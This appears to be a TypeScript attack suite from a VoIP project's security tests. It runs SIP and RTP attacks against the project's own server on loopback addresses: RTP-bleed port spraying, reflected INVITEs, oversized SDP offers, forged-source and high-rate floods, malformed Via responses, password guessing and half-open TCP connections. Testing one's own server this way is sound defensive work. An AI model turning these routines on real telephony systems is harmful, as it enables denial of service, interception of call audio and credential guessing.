// Attacks by whoever can send a packet to the ports of SIP and RTP.
import { createSocket, type Socket as Datagrams } from 'node:dgram';
import { once } from 'node:events';
import { connect } from 'node:net';
import { Phone } from '../../../engine/test-runs/caller/phone/phone.ts';
import {
  message,
  methodOf,
  newBranch,
  newTag,
  SDP_TYPE,
  sdp,
  statusOf,
} from '../../../engine/test-runs/caller/phone/sip-text.ts';
import { parseTarget } from '../../../engine/test-runs/caller/sip.ts';
import { pause } from '../conversation/scenario.ts';
import { type Attack, count, isOver, type Target, within } from './attack.ts';

/** Of the demo, which every installation has at first. */
const called = ({ sipAddress }: Target) => parseTarget(`sip:demo@${sipAddress}`);

async function bound(address: string): Promise<Datagrams> {
  const socket = createSocket('udp4').on('message', () => {});
  socket.bind(0, address);
  await once(socket, 'listening');
  return socket;
}

/** A request from an address and port of this machine, which may be neither true nor allowed. */
function request(
  { sipAddress }: Target,
  method: string,
  from: { address: string; port: number },
  { callId = newTag(), body = '', transport = 'UDP' } = {},
): string {
  const lines = [
    `${method} sip:demo@${sipAddress} SIP/2.0`,
    `Via: SIP/2.0/${transport} ${from.address}:${from.port};branch=${newBranch()};rport`,
    'Max-Forwards: 70',
    `From: <sip:+15550001111@${from.address}>;tag=${newTag()}`,
    `To: <sip:demo@${sipAddress}>`,
    `Call-ID: ${callId}`,
    `CSeq: 1 ${method}`,
    `Contact: <sip:x@${from.address}:${from.port}>`,
    ...(body === '' ? [] : [SDP_TYPE]),
  ];
  return message(lines, body);
}

export const bleed: Attack = {
  name: 'a stranger sprays RTP at every port, while a phone behind NAT calls',
  async strike(target, untilMs) {
    const attacker = createSocket('udp4');
    let stolen = 0;
    attacker.on('message', () => stolen++);
    attacker.bind(0, '127.0.0.77');
    await once(attacker, 'listening');
    const packet = Buffer.alloc(172, 0xff);
    packet.writeUInt32BE(0x80000001, 0);
    const spray = setInterval(() => {
      for (let port = target.rtpPorts.min; port < target.rtpPorts.max; port += 2)
        attacker.send(packet, port, '127.0.0.1');
    }, 100);
    const phone = await Phone.start({ host: '127.0.0.50', talks: true });
    try {
      const { phone: credentials, sipAddress } = target;
      const registered = await within(3_000, phone.register(sipAddress, credentials), 0);
      if (registered !== 200) throw new Error(`the phone could not register: ${registered}`);
      const call = phone.place({
        target: called(target),
        from: credentials.username,
        domain: sipAddress,
        credentials,
        // A phone behind NAT signals an address that nobody else sees.
        offer: sdp(phone.audio.port).replaceAll('127.0.0.1', '10.99.99.99'),
      });
      const status = await within(3_000, call.final(), 0);
      if (status !== 200) throw new Error(`the phone's call was not answered: ${status}`);
      await pause(untilMs - performance.now());
      call.hangUp();
      await pause(200);
      const heard = phone.audio.heard.length;
      return {
        words: `packets of the agent to the phone: ${heard}, to the stranger: ${stolen}`,
        succeeded: stolen > 0 || heard === 0,
      };
    } finally {
      clearInterval(spray);
      phone.stop();
      attacker.close();
    }
  },
};

export const unacknowledged: Attack = {
  name: 'INVITEs that nobody acknowledges, ten a second, whose SDP names somebody else',
  async strike(target, untilMs) {
    const victim = createSocket('udp4');
    let hit = 0;
    victim.on('message', () => hit++);
    victim.bind(0, '127.0.0.1');
    await once(victim, 'listening');
    const socket = await bound('127.0.0.1');
    const statuses = new Set<number>();
    socket.on('message', (bytes) => statuses.add(statusOf(bytes.toString('latin1'))));
    const { host, port } = called(target);
    let sent = 0;
    for (; !isOver(untilMs); sent++) {
      socket.send(request(target, 'INVITE', socket.address(), { body: sdp(victim.address().port) }), port, host);
      await pause(100);
    }
    // Calls without an ACK end after 4 s.
    await pause(4_500);
    socket.close();
    victim.close();
    if (!statuses.has(200)) throw new Error('no INVITE was answered');
    return { words: `INVITEs: ${sent}, packets to somebody else: ${hit}`, succeeded: hit > 0 };
  },
};

/** As many formats as a datagram has room for, beside as many lines about formats as are read. */
function longOffer(port: number, formats: number): string {
  const lines = Array.from({ length: 480 }, (_, n) => `a=rtpmap:${n} x/1`).join('\r\n');
  const line = `m=audio ${port} RTP/AVP ${Array.from({ length: formats }, (_, n) => (n % 90) + 10).join(' ')}`;
  return sdp(port).replace(/m=audio.*(?:\r\na=rtpmap.*)*/, `${line}\r\n${lines}`);
}

export const longOffers: Attack = {
  name: 'a trunk offers 15,000 formats beside 480 lines about formats, ten times a second',
  async strike(target, untilMs) {
    const socket = await bound('127.0.0.1');
    const statuses: number[] = [];
    socket.on('message', (bytes) => statuses.push(statusOf(bytes.toString('latin1'))));
    const { host, port } = called(target);
    const offer = longOffer(9, 15_000);
    let sent = 0;
    for (; !isOver(untilMs); sent++) {
      socket.send(request(target, 'INVITE', socket.address(), { body: offer }), port, host);
      await pause(100);
    }
    socket.close();
    // Each is answered at once and once more where nobody acknowledges it; what it costs is seen by the callers beside.
    const refused = statuses.filter((status) => status === 488).length;
    return { words: `sent: ${sent}; answers: ${count(statuses)}`, succeeded: refused < sent / 2 };
  },
};

export const forgedPhone: Attack = {
  name: 'packets that bear the address of a registered phone, 60 a second',
  async strike(target, untilMs) {
    const phone = await Phone.start({ host: '127.0.0.51' });
    const forger = await bound('127.0.0.51');
    const { host, port } = called(target);
    const refresh = () => within(2_000, phone.register(target.sipAddress, target.phone), 0);
    const first = await refresh();
    const flood = setInterval(() => forger.send(request(target, 'OPTIONS', forger.address()), port, host), 16);
    const refreshes: number[] = [];
    while (!isOver(untilMs - 1_000)) {
      refreshes.push(await refresh());
      await pause(500);
    }
    clearInterval(flood);
    forger.close();
    phone.stop();
    if (first !== 200) throw new Error(`the phone could not register: ${first}`);
    return {
      words: `refreshes of the phone: ${count(refreshes)}`,
      succeeded: refreshes.some((status) => status !== 200),
    };
  },
};

export const flood: Attack = {
  name: 'a stranger sends 2,000 OPTIONS and INVITEs a second',
  async strike(target, untilMs) {
    const socket = await bound('127.0.0.130');
    const statuses: number[] = [];
    let calls = 0;
    socket.on('message', (bytes) => {
      const text = bytes.toString('latin1');
      statuses.push(statusOf(text));
      if (methodOf(text) === 'INVITE' && statusOf(text) < 300) calls++;
    });
    const { host, port } = called(target);
    const startedAt = performance.now();
    let sent = 0;
    while (!isOver(untilMs)) {
      for (const due = (performance.now() - startedAt) * 2; sent < due; sent++)
        socket.send(request(target, sent % 2 === 0 ? 'OPTIONS' : 'INVITE', socket.address()), port, host);
      await pause(10);
    }
    socket.close();
    return { words: `sent: ${sent}; answers: ${count(statuses)}`, succeeded: calls > 0 };
  },
};

export const unasked: Attack = {
  name: 'a stranger sends 100 responses a second that nobody asked for, each of 60,000 commas',
  async strike(target, untilMs) {
    const socket = await bound('127.0.0.132');
    const { host, port } = called(target);
    let sent = 0;
    for (; !isOver(untilMs); sent++) {
      const [, ...lines] = request(target, 'OPTIONS', socket.address()).split('\r\n');
      socket.send(['SIP/2.0 200 OK', `Via: ${','.repeat(60_000)}`, ...lines].join('\r\n'), port, host);
      await pause(10);
    }
    socket.close();
    // None is answered: what it costs is seen by the callers beside it.
    return { words: `sent: ${sent}`, succeeded: false };
  },
};

export const passwords: Attack = {
  name: 'a stranger registers as a phone of the house with wrong passwords, beside the phone itself',
  async strike(target, untilMs) {
    const owner = await Phone.start({ host: '127.0.0.52' });
    const stranger = await Phone.start({ host: '127.0.0.131' });
    const register = (phone: Phone, password: string) =>
      within(2_000, phone.register(target.sipAddress, { username: target.phone.username, password }), 0);
    const guesses: number[] = [];
    const own: number[] = [];
    for (let n = 0; !isOver(untilMs - 1_000); n++) {
      guesses.push(await register(stranger, `guess ${n}`));
      if (n % 10 === 0) own.push(await register(owner, target.phone.password));
      await pause(30);
    }
    owner.stop();
    stranger.stop();
    return {
      words: `guesses: ${count(guesses)}; the phone: ${count(own)}`,
      succeeded: guesses.includes(200) || own.some((status) => status !== 200),
    };
  },
};

export const halfRequests: Attack = {
  name: 'an allowed address holds 200 half SIP requests over TCP, and sends a whole one now and then',
  async strike(target, untilMs) {
    const { host, port } = called(target);
    const address = '127.0.0.1';
    const text = request(target, 'OPTIONS', { address, port: 5_060 }, { transport: 'TCP' });
    const half = () => {
      const socket = connect({ host, port, localAddress: address }).on('error', () => {});
      socket.write(text.slice(0, 60));
      return socket;
    };
    const sockets = Array.from({ length: 200 }, half);
    const statuses: number[] = [];
    while (!isOver(untilMs)) {
      const socket = connect({ host, port, localAddress: address }).on('error', () => {});
      socket.write(request(target, 'OPTIONS', { address, port: 5_060 }, { transport: 'TCP' }));
      const [heard] = await within(2_000, once(socket, 'data') as Promise<[Buffer]>, [Buffer.alloc(0)]);
      statuses.push(statusOf(heard.toString('latin1')));
      socket.destroy();
      sockets.push(half(), half());
      await pause(200);
    }
    for (const socket of sockets) socket.destroy();
    return { words: `whole requests: ${count(statuses)}`, succeeded: statuses.includes(0) };
  },
};
